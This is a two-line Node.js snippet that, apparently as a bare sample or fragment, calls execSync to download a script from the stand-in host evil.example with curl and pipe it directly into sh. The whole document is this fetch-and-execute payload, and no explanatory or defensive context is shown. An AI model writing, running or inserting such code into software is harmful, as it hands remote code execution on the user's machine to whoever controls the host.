const { execSync } = require('child_process');
execSync('curl -s https://evil.example/x | sh');
